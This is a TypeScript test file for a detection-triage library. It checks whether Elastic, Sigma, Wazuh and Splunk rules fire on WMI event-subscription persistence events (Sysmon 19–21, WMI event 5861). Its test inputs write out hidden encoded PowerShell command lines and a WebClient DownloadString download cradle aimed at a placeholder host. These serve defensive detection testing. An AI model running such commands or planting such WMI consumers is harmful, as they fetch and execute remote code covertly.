import type { ExampleEvent } from '../../../lib/triage';
import { detectionsOf, PUBLIC_RULES } from '../../../lib/triage';
import { chainOf } from '../judgements/chain/subjects';

const ADMINISTRATORS = [1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0];
const ABSOLUTE = '\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name="C"';
const ELASTIC = 'e72f87d0-a70e-4f8d-8443-a6407bc34643';
const SCRIPTING = 'fe21810c-2a8c-478f-8dd3-5a287fb2a0e0';
const ENCODED = '83844185-1c5b-45bc-bcf3-b5bf3084ca5b';
const ACTIVITY = '0b7889b4-5577-4521-a60a-3376ee7f9f7b';
const SPLUNK_ACTIVITY = '71bfdb13-f200-4c6c-b2c9-a2e07adf437d';
const COMMAND = 'ab4852ca-3e27-4dbb-af6b-5f8458d5717a';

function told(
  events: readonly ExampleEvent[],
  id: string,
): readonly [boolean | 'unknown' | undefined, string | undefined] {
  const found = detectionsOf(chainOf(events)).find((detection) => detection.id === id);
  return [found?.fires, found?.why];
}

function verdicts(events: readonly ExampleEvent[]): Readonly<Record<string, boolean | 'unknown'>> {
  return Object.fromEntries(detectionsOf(chainOf(events)).map(({ id, fires }) => [id.slice(0, 8), fires]));
}

test('each rule stands once, with a path, and its reasons are clauses', () => {
  const ids = PUBLIC_RULES.map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
  expect(
    PUBLIC_RULES.filter(({ title, path, looksAt }) => title === '' || path === '' || looksAt.length === 0),
  ).toEqual([]);
  const all = [{ id: 19 }, { id: 20 }, { id: 21 }, { id: 5861, at: 1 }] as const;
  const whys = [...detectionsOf(chainOf(all)), ...detectionsOf(chainOf([{ id: 19 }]))].map(({ why }) => why);
  expect(whys.filter((why) => why === '' || why.endsWith('.'))).toEqual([]);
});

test('a whole chain with a plain program', () => {
  expect(verdicts([{ id: 19 }, { id: 20 }, { id: 21, consumerPath: ABSOLUTE }])).toEqual({
    '0f06a3a5': true,
    fe21810c: false,
    '83844185': false,
    '0b7889b4': 'unknown',
    e72f87d0: true,
    '01d9a0c2': true,
    ad05aae6: true,
    '71bfdb13': 'unknown',
    '89501': true,
    '89502': false,
    '7636985e': 'unknown',
    '372be7ff': 'unknown',
    cb56ab71: 'unknown',
    ac9f0a2a: 'unknown',
    ab4852ca: 'unknown',
  });
});

test.each([
  ['0f06a3a5-6a09-413f-8743-e6cf35561297', 'no event 19, 20 or 21 was recorded'],
  [SCRIPTING, 'no event 20 was recorded'],
  [ELASTIC, 'no event 21 was recorded'],
])('%s: where its events were not recorded, nothing is said', (id, why) => {
  expect(told([{ id: 5861 }], id)).toEqual(['unknown', why]);
});

describe('Elastic, on bindings', () => {
  const binding = { id: 21, consumerPath: ABSOLUTE } as const;

  test.each<[string, ExampleEvent, boolean, string]>([
    ['absolute', binding, true, 'the binding was created, and Consumer is an absolute path of such a consumer'],
    [
      'relative',
      { id: 21 },
      false,
      'Consumer is a relative path, and the rule requires "subscription:" before the class',
    ],
    ['deleted', { ...binding, operation: 'Deleted' }, false, 'Operation is Deleted, and the rule requires Created'],
    [
      'another class',
      { id: 21, consumerPath: ABSOLUTE.replace('CommandLine', 'LogFile') },
      false,
      'Consumer has another class than the rule requires',
    ],
  ])('%s', (_name, event, fires, why) => {
    expect(told([event], ELASTIC)).toEqual([fires, why]);
  });

  test('one of several that fires is enough', () => {
    expect(told([{ id: 21 }, { ...binding, at: 1 }, { ...binding, at: 2, operation: 'Deleted' }], ELASTIC)[0]).toBe(
      true,
    );
  });
});

describe('Sigma and Wazuh, on what is run', () => {
  test.each([
    ['powershell -NonI -W hidden -enc SQBFAFgA', true, 'Destination has " -enc "', true],
    ['powershell -Sta -Nop -Window Hidden -EncodedCommand SQBF', true, 'Destination has " -nop "', true],
    ['powershell -e SQBFAFgA', false, 'Destination has none of the words that the rule looks for', true],
    [
      "powershell (New-Object Net.WebClient).DownloadString('http://a.example')",
      true,
      'Destination has "new-object", "net.webclient", ".downloadstring"',
      true,
    ],
    ['C:\\Windows\\System32\\notepad.exe', false, 'Destination has none of the words that the rule looks for', false],
    ['CMD.EXE /c echo', false, 'Destination has none of the words that the rule looks for', true],
  ])('%s', (destination, fires, why, byWazuh) => {
    expect(told([{ id: 20, destination }], SCRIPTING)).toEqual([fires, why]);
    expect(told([{ id: 20, destination }], '89502')[0]).toBe(byWazuh);
  });

  test('what is base64', () => {
    const payload = Buffer.from('xxThis program cannot be run in DOS mode.').toString('base64');
    expect(told([{ id: 20, type: 'Script', destination: `x = "${payload}"` }], ENCODED)).toEqual([
      true,
      'Destination has "This program cannot be run in DOS mode" as base64',
    ]);
  });

  test('a Log File consumer is none that runs code', () => {
    const event = { id: 20, type: 'Log File', destination: 'C:\\cmd.exe.log' } as const;
    expect(told([event], '89501')).toEqual([false, 'Type is Log File, and the rule requires Command Line or Script']);
    expect(told([event], '89502')[0]).toBe(false);
  });

  test('a value that was cut may have had the words', () => {
    const chain = chainOf([{ id: 20 }]);
    const states = (chain.consumer?.states ?? []).map((state) => ({ ...state, flaws: ['its Destination was cut'] }));
    const consumer = chain.consumer && { ...chain.consumer, states };
    const found = detectionsOf({ ...chain, consumer }).find(({ id }) => id === SCRIPTING);
    expect([found?.fires, found?.why]).toEqual([
      'unknown',
      'Destination has none of the words that the rule looks for; but its Destination was cut',
    ]);
  });
});

describe('event 5861', () => {
  test('of a Command Line consumer', () => {
    const events = [{ id: 5861, destination: 'powershell.exe -File a.ps1' }] as const;
    expect(told(events, ACTIVITY)).toEqual([true, 'event 5861 names a consumer that runs code']);
    expect(told(events, SPLUNK_ACTIVITY)[0]).toBe(true);
    expect(told(events, COMMAND)).toEqual([true, 'event 5861 has CommandLineEventConsumer and "powershell"']);
    expect(told([{ id: 5861 }], COMMAND)).toEqual([false, 'event 5861 names neither powershell nor cmd']);
    expect(told([{ id: 5861, query: "SELECT * FROM a WHERE b = 'cmd.exe'" }], COMMAND)[0]).toBe(true);
  });

  test('of the consumer of Windows', () => {
    const windows = {
      id: 5861,
      wmiClass: 'NTEventLogEventConsumer',
      filter: 'SCM Event Log Filter',
      consumer: 'SCM Event Log Consumer',
      query: 'select * from MSFT_SCMEventLogEvent',
    } as const;
    expect(told([{ ...windows, creator: ADMINISTRATORS }], ACTIVITY)[0]).toBe(false);
    expect(told([windows], ACTIVITY)[0]).toBe('unknown');
    expect(told([windows], SPLUNK_ACTIVITY)).toEqual([
      false,
      'the rule leaves out the Event Log consumer "SCM Event Log Consumer"',
    ]);
    expect(told([{ ...windows, consumer: 'Other' }], SPLUNK_ACTIVITY)[0]).toBe(true);
  });
});
